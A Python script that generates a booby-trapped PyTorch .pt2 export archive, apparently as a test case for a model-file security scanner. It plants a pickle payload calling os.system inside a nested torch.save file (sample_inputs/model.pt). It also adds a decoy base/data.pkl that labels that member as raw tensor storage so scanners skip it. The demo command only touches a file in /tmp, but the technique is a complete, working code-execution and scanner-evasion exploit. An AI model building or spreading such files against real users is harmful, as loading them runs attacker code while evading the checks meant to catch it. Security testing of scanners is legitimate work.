# torch.export archive (.pt2) whose sample_inputs/model.pt is a torch.save file with a payload
# (torch.export.load hands it to torch.load(weights_only=False)), plus a decoy `base/data.pkl`
# whose persistent ids name `sample_inputs/model.pt` as a storage key. A scanner that skips every
# member some data.pkl names as a raw storage never looks inside the nested torch.save file.
import torch, zipfile, io, os, pickle, collections, shutil
import sys
out = os.path.abspath(sys.argv[1]) if len(sys.argv) > 1 else "."
os.chdir(os.path.dirname(os.path.abspath(__file__)))
class M(torch.nn.Module):
    def __init__(s):
        super().__init__(); s.l = torch.nn.Linear(2, 2)
    def forward(s, x): return s.l(x)
if not os.path.exists("base.pt2"):
    ep = torch.export.export(M(), (torch.randn(1, 2),))
    torch.export.save(ep, "base.pt2")
class P:
    def __reduce__(s): return (os.system, ("touch /tmp/r37-pwned-pt2-decoy-storage",))
b = io.BytesIO(); torch.save({"x": P()}, b); nested = b.getvalue()

def decoy_pickle(keys_sizes):
    # a dict of uint8 tensors over ByteStorage persistent ids with the given keys, as torch.save writes
    class Pk(pickle.Pickler):
        def persistent_id(self, obj):
            if isinstance(obj, tuple) and obj and obj[0] == "PID":
                return obj[1]
            return None
    class T:
        def __init__(s, key, n): s.key, s.n = key, n
        def __reduce__(s):
            return (torch._utils._rebuild_tensor_v2,
                    (("PID", ("storage", torch.ByteStorage, s.key, "cpu", s.n)), 0, (s.n,), (1,), False,
                     collections.OrderedDict()))
    buf = io.BytesIO()
    Pk(buf, protocol=2).dump({f"t{i}": T(k, n) for i, (k, n) in enumerate(keys_sizes)})
    return buf.getvalue()

zin = zipfile.ZipFile("base.pt2")
with zipfile.ZipFile(os.path.join(out, "review37-pt2_decoy_storage.pt2"), "w") as zo:
    for i in zin.infolist():
        d = zin.read(i.filename)
        if i.filename.endswith("sample_inputs/model.pt"):
            d = nested
        zo.writestr(i, d)
    zo.writestr("base/data.pkl", decoy_pickle([("sample_inputs/model.pt", len(nested))]))
print("written")
